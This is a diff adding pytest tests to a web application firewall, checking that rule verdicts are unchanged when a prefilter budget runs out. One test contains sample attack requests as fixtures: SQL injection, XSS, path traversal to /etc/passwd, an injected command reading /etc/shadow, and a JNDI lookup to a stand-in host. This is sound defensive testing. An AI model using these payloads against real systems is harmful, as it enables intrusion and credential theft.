@@ -6,6 +6,8 @@ from dataclasses import dataclass, field
 
 import pytest
 
+from waf import transaction
+from waf.engine import build_ruleset, builtin_rule_files
 from waf.rules import RuleSetError, compile_rules
 from waf.seclang import parse_text
 from waf.transaction import Transaction
@@ -148,6 +150,48 @@ CASES: list[tuple[str, str, Req, list[int]]] = [
                          [c[1:] for c in CASES], ids=[c[0] for c in CASES])
 def test_rules_fire(rules: str, req: Req, expected: list[int]) -> None:
     assert fired(run(rules, req)) == expected
+
+
+@pytest.mark.parametrize(("rules", "req", "expected"),
+                         [c[1:] for c in CASES], ids=[c[0] for c in CASES])
+def test_rules_fire_the_same_when_the_sets_are_out_of_budget(
+        rules: str, req: Req, expected: list[int], monkeypatch: pytest.MonkeyPatch) -> None:
+    # A transaction that has spent its prefilter budget (hostile input) hands
+    # every value to the rules' own operators: the verdicts must not change.
+    monkeypatch.setattr(transaction, "_SET_BUDGET_S", -1.0)
+    assert fired(run(rules, req)) == expected
+
+
+def test_builtin_rules_judge_attacks_the_same_without_the_sets(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    requests = [
+        Req(uri="/?q=1%27%20or%201=1--&x=%3Cscript%3Ealert(1)%3C/script%3E"),
+        Req(uri="/?file=../../../../etc/passwd&cmd=;cat%20/etc/shadow"),
+        Req(method="POST", headers=FORM,
+            body=b"name=${jndi:ldap://evil.example/a}&token=aB3dE5gH7jK9mN1pQ3sT5vW7xY9z"),
+        Req(uri="/search?q=garden+chairs&page=2"),
+    ]
+
+    def judge() -> list[list[int]]:
+        ruleset = build_ruleset(engine="On", paranoia=2, files=builtin_rule_files())
+        out = []
+        for req in requests:
+            tx = Transaction(ruleset, "test")
+            tx.process_connection("10.0.0.1", 1234, "127.0.0.1", 80)
+            tx.process_uri(req.uri, req.method, "HTTP/1.1")
+            for k, v in [("Host", "example.com"), ("User-Agent", "Mozilla/5.0"),
+                         ("Accept", "*/*"), *req.headers]:
+                tx.add_request_header(k, v)
+            if tx.process_request_headers() is None:
+                tx.process_request_body(req.body)
+            tx.process_logging()
+            out.append(sorted(m.id for m in tx.matched))
+        return out
+
+    with_sets = judge()
+    assert all(with_sets[:3]) and not with_sets[3]  # the attacks are caught, the search is not
+    monkeypatch.setattr(transaction, "_SET_BUDGET_S", -1.0)
+    assert judge() == with_sets
 
 
 def test_deny_interrupts_with_status_and_stops_the_phase() -> None:
